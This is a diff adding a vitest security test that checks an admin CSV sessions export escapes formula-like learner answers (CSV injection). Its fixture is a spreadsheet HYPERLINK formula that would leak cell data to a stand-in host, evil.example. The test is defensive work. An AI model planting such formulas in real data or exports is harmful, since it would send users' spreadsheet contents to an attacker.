@@ -2,7 +2,7 @@ import { TEXT } from '@shunkan/config/texts';
 import type { LightMyRequestResponse as InjectResponse } from 'fastify';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ServerHandle } from '../src/server.js';
-import { signUp, startTestServer } from './harness.js';
+import { emulatorAdmin, signUp, startTestServer } from './harness.js';
 
 /**
  * The independent security and fault probe, as tests (decision 026): unknown paths and methods,
@@ -196,6 +196,24 @@ describe("one learner and another learner's data", () => {
       expect(refused.status, String(dailyGoal)).toBe(400);
       expect(refused.error?.message).toBe(TEXT.invalidInput);
     }
+  });
+});
+
+describe('CSV exports', () => {
+  it("keep a learner's formula-like answer as text in the admin's sessions export (CSV injection)", async () => {
+    const learner = await signUp();
+    expect((await mutate('billing.startTrial', learner.idToken)).status).toBe(200);
+    const served = await mutate('practice.nextProblem', learner.idToken, { difficultyLevel: 'toeic' });
+    const answer = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")';
+    expect((await mutate('practice.evaluate', learner.idToken, { problemId: served.data?.problemId, answer })).status).toBe(200);
+
+    const admin = await signUp();
+    await emulatorAdmin('accounts:update', { localId: admin.localId, customAttributes: JSON.stringify({ admin: true }) });
+    const exported = await server.app.inject({ method: 'GET', url: '/api/admin/export/sessions', headers: bearer(admin.idToken) });
+    expect(exported.statusCode).toBe(200);
+    const line = exported.body.split('\r\n').find((record) => record.includes(learner.email)) ?? '';
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""詳細"")"`);
+    expect(line).not.toMatch(/,"?=HYPERLINK/);
   });
 });
 
